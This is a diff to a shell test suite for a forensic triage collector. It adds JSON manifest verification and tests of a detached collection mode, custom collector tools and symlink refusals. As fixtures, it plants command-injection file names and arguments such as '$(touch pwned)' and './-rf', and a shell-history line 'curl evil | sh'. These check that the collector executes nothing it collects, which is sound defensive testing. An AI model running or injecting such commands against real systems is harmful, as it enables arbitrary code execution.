@@ -29,6 +29,7 @@ cd "$host/tmp" || exit 2
 touch '$(touch pwned)' '`touch pwned`' ./-rf \
     "$host/tmp/a\"b'c;d|e&f" "$host/tmp/ lead" "$host/tmp/\\n" \
     "$host/tmp/"$'new\nline\nkept\tetc-9\t1\t' "$host/tmp/"$'esc\e[31m' "$host/tmp/"$'\xff\xfe'
+printf 'x' >"$host/tmp/"$'\xff\xfe'
 cd "$work" || exit 2
 printf 'payload\n' >"$host/tmp/deep/payload"
 dd if=/dev/zero of="$host/var/log/secure" bs=1M count=3 2>/dev/null
@@ -37,7 +38,7 @@ find "$host" >before
 
 # The same without what takes long on a machine that does much else.
 lean=$work/lean.sh
-sed 's/hashes_max=300/hashes_max=3/; s/head -c 16777216 <"$exe"/head -c 1000 <"$exe"/; s/^tool /: tool /' "$collector" >"$lean"
+sed 's/hashes_max=300/hashes_max=3/; s/head -c 16777216 <"$exe"/head -c 1000 <"$exe"/; s/^\( *\)tool /\1: tool /' "$collector" >"$lean"
 
 # collect SHELL.. : its last line in `told`, the archive unpacked in `got`
 collect() {
@@ -49,6 +50,21 @@ collect() {
     mkdir -p got
     tar -C got -xzf kept.tar.gz 2>/dev/null
 }
+# Whether the folder holds what its manifest says, and nothing else.
+verified() {
+    python3 - "$1" <<'END'
+import hashlib, json, os, sys
+at = sys.argv[1]
+files = json.load(open(at + "/manifest.json"))["files"]
+for one in files:
+    content = open(os.path.join(at, one["path"]), "rb").read()
+    assert len(content) == one["bytes"] and hashlib.sha256(content).hexdigest() == one["sha256"], one
+there = {os.path.relpath(os.path.join(d, f), at) for d, _, names in os.walk(at) for f in names}
+assert there == {one["path"] for one in files} | {"manifest.json"}, there ^ {one["path"] for one in files}
+END
+}
+manifest() { jq -e "$@" got/triage/manifest.json >/dev/null 2>&1; }
+manifest_hex() { jq -r '[.files[], .skipped[]][] | select(.from_hex) | .from_hex' got/triage/manifest.json | grep -F fffe | head -n 1; }
 leftovers() { find /var/tmp /tmp /dev/shm -maxdepth 1 -name 'cdr-??????????' -user "$(id -u)" -newer before 2>/dev/null; }
 
 # A program whose file is gone.
@@ -72,14 +88,16 @@ for shell in dash 'bash --posix' 'busybox sh'; do
     holds "$shell: nothing else is printed" test "$(wc -l <told.txt)" = 1
     holds "$shell: nothing that was found was run" test -z "$(find "$work" / -maxdepth 1 -name pwned)" -a ! -e "$host/tmp/pwned"
     holds "$shell: names in the archive are ours" bash -c '! tar -tzf "$1" | grep -vE "^triage/[a-zA-Z0-9/._-]*$"' - kept.tar.gz
-    holds "$shell: every line of the manifest has five fields" \
-        bash -c '! awk -F "\t" "NF != 5" "$1" | grep -q .' - got/triage/manifest.tsv
-    holds "$shell: and no control characters" bash -c '! LC_ALL=C grep -q "[[:cntrl:]]" <(tr -d "\t" <"$1")' - got/triage/manifest.tsv
+    holds "$shell: the manifest is JSON that says what it is" \
+        manifest '.cdr == "triage" and .state == "partial" and (.files | length > 20) and .kernel != ""'
+    holds "$shell: and every file is as it says" verified got/triage
+    holds "$shell: names that are no plain text stand there byte for byte" \
+        test "$(manifest_hex)" = "$(printf '%s' "$host/tmp/"$'\xff\xfe' | od -An -v -tx1 | tr -d ' \n')"
     holds "$shell: no link is followed to what is not its own" bash -c '! grep -rqF secret-of-somebody-else "$1"' - got
     holds "$shell: nor a folder's" bash -c '! grep -rqF ssh-ed25519 "$1"' - got
-    holds "$shell: which is told" grep -qF 'a link to ' got/triage/manifest.tsv
-    holds "$shell: nor a hard one, which is told" grep -qF 'viminfo	it has another name' got/triage/manifest.tsv
-    holds "$shell: what is no regular file is told" grep -q 'zsh_history.*no regular file' got/triage/manifest.tsv
+    holds "$shell: which is told" grep -qF 'a link to ' got/triage/manifest.json
+    holds "$shell: nor a hard one, which is told" grep -q 'viminfo.*it has another name' got/triage/manifest.json
+    holds "$shell: what is no regular file is told" grep -q 'zsh_history.*no regular file' got/triage/manifest.json
     holds "$shell: histories are there" grep -rqF 'curl evil | sh' got/triage/home
     holds "$shell: logins too" grep -rqF 'accepted for eve' got/triage/log
     holds "$shell: and what starts by itself" grep -rqF '/tmp/.x' got/triage/autostart
@@ -108,7 +126,7 @@ if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
     tail -n 1 told.txt >"$out"
     exits 0 "it ends well without rights"
     rm -rf got && mkdir got && tar -C got -xzf open/kept.tar.gz
-    holds "what it may not read is told" grep -q 'home/bob.*no permission' got/triage/manifest.tsv
+    holds "what it may not read is told" grep -q 'home/bob.*no permission' got/triage/manifest.json
     holds "and counted" json '.skipped > 0 and .files > 10'
     chmod 755 "$host/home/bob"
 else
@@ -124,8 +142,114 @@ collect dash
 exits 0 "100,000 files are no trouble"
 holds "within its time" test $(($(date +%s) - before_s)) -lt 300
 holds "of which the newest are listed" test "$(wc -l <got/triage/recent/tmp.tsv)" -le 10000
-holds "and the rest is told" grep -q 'only the newest 10000' got/triage/manifest.tsv
+holds "and the rest is told" grep -q 'only the newest 10000' got/triage/manifest.json
 rm -rf "$host/tmp/many"
+
+# Detached, as over Real Time Response and live response: the scripts that cdr sends.
+made=$(dirname "${CDR##* }")/tests/unit/test_collector
+places=$work/places
+mkdir "$places"
+scripted() {
+    TMPDIR=$places CDR_ROOT=$host timeout 60 dash -c "$("$made" "$@")" >"$out" 2>"$err"
+    status=$?
+}
+settled() { # KEY : the status, once it is an end
+    for _ in $(seq 300); do
+        scripted status linux "$1"
+        json '.state != "running"' && return
+        sleep 0.2
+    done
+}
+web='{"linux":{"files":["/var/log/*.log","/home/*/.bash_history","/no such/$(touch pwned)"],"most":50,"take":["connections","users"]},"profile":"web"}'
+if [ -x "$made" ]; then
+    scripted status linux web-1
+    holds "nothing is there before it was started" json '.state == "none"'
+    scripted start linux web-1 "$web"
+    prints "cdr-collector started" "it is started"
+    scripted start linux web-1 "$web"
+    prints "cdr-collector running" "and only once"
+    holds "in a directory for us alone" test "$(stat -c %a "$places/cdr-web-1")" = 700
+    settled web-1
+    holds "its end is told" json '.state == "partial" and .profile == "web" and .files > 3 and .clock_offset > 1000'
+    holds "with the reason" json '.why | test("behind links")'
+    holds "and the sum of the archive" test "$(jq -r .sha256 "$out")" = "$(sha256sum <"$places/cdr-web-1/triage.tar.gz" | cut -d' ' -f1)"
+    rm -rf got && mkdir got && tar -C got -xzf "$places/cdr-web-1/triage.tar.gz"
+    holds "every file is as the manifest says" verified got/triage
+    holds "files are taken by pattern" manifest '[.files[].from] | any(test("auth.log$")) and any(test("bob/.bash_history$"))'
+    holds "what is not there is told" manifest '.absent | any(.from == "/no such/$(touch pwned)")'
+    holds "what the profile does not take is left" test ! -e got/triage/processes
+    scripted start linux web-1 "$web"
+    prints "cdr-collector running" "it is not started again after its end"
+    scripted clean linux web-1
+    prints "cdr-collector clean" "and is taken away"
+    holds "entirely" test ! -e "$places/cdr-web-1"
+
+    ln -s "$host/secret" "$places/cdr-link"
+    scripted start linux link "$web"
+    exits 1 "a link is refused"
+    prints "cdr-collector refused" "which is told"
+    scripted clean linux link
+    exits 1 "and not followed to be removed"
+    holds "with what is in it" test -f "$host/secret/key"
+    mkdir -m 777 "$places/cdr-open"
+    scripted start linux open "$web"
+    exits 1 "a directory of everybody is refused"
+    if [ "$(id -u)" = 0 ]; then
+        mkdir -m 700 "$places/cdr-theirs" && chown 65534 "$places/cdr-theirs"
+        scripted start linux theirs "$web"
+        exits 1 "somebody else's directory is refused"
+    else
+        skip "somebody else's directory is refused" "this is not root"
+    fi
+
+    # A collector of the user's own, and its end by kill -9.
+    mkdir -p own/tool-1.0
+    printf '#!/bin/sh\nprintf "%%s|" "$@" >"$2/words"\nif [ "$1" = wait ]; then sleep 300; fi\nexit "$3"\n' >own/tool-1.0/run
+    chmod 755 own/tool-1.0/run
+    tar -C own -czf tool.tar.gz tool-1.0
+    own() { # WORD CODE SUM
+        jq -cn --arg word "$1" --arg code "$2" --arg sum "$3" \
+            '{collector: "own", linux: {file: "tool.tar.gz", sha256: $sum, command: ["./run", $word, "{output}", $code, "two words", "$(touch pwned)", "it'"'"'s"]}}'
+    }
+    sum=$(sha256sum <tool.tar.gz | cut -d' ' -f1)
+    scripted start linux own-1 "$(own go 0 "$sum")" "$work/tool.tar.gz"
+    settled own-1
+    holds "a collector of one's own runs" json '.state == "complete" and .skipped == 0'
+    rm -rf got && mkdir got && tar -C got -xzf "$places/cdr-own-1/triage.tar.gz"
+    holds "with the words that it was given" grep -qF 'two words|$(touch pwned)|it'"'"'s|' got/triage/own/words
+    holds "the manifest has its hash" manifest --arg sum "$sum" '.tool.sha256 == $sum'
+    holds "and its files" verified got/triage
+    scripted start linux own-2 "$(own go 3 "$sum")" "$work/tool.tar.gz"
+    settled own-2
+    holds "one that fails is partial" json '.state == "partial" and (.why | test("1 tools that failed"))'
+    scripted start linux own-3 "$(own go 0 "${sum/[0-9]/f}")" "$work/tool.tar.gz"
+    settled own-3
+    holds "one with another hash is not run" json '.state == "failed" and (.why | test("another hash"))'
+    scripted start linux own-4 "$(own wait 0 "$sum")" "$work/tool.tar.gz"
+    for _ in $(seq 100); do [ -s "$places/cdr-own-4/work/triage/own/words" ] && break || sleep 0.1; done
+    scripted status linux own-4
+    holds "it is at work" json '.state == "running"'
+    read -r watch _ <"$places/cdr-own-4/process"
+    holds "as a process" kill -0 "$watch"
+    kill -9 -- "-$watch"
+    for _ in $(seq 50); do kill -0 "$watch" 2>/dev/null && sleep 0.1; done
+    scripted status linux own-4
+    holds "which was killed: it failed" json '.state == "failed" and (.why | test("was ended"))'
+    scripted start linux own-4 "$(own wait 0 "$sum")" "$work/tool.tar.gz"
+    prints "cdr-collector running" "and it is not begun anew"
+    scripted clean linux own-4
+    holds "killed ones are taken away too" test ! -e "$places/cdr-own-4"
+
+    # What goes away while it is read.
+    mkfifo "$host/var/log/pipe.log" && ln -s "$host/gone" "$host/var/log/gone.log"
+    scripted start linux gone-1 "$web"
+    settled gone-1
+    holds "what cannot be taken makes it partial" json '.state == "partial" and .skipped > 1'
+    rm -f "$host/var/log/pipe.log" "$host/var/log/gone.log"
+    holds "nothing of a profile was run" test -z "$(find "$work" "$places" / -maxdepth 1 -name pwned)"
+else
+    skip "the detached form" "there is no $made"
+fi
 
 # It uploads with what is there, to an address that was signed for it.
 start_sandbox
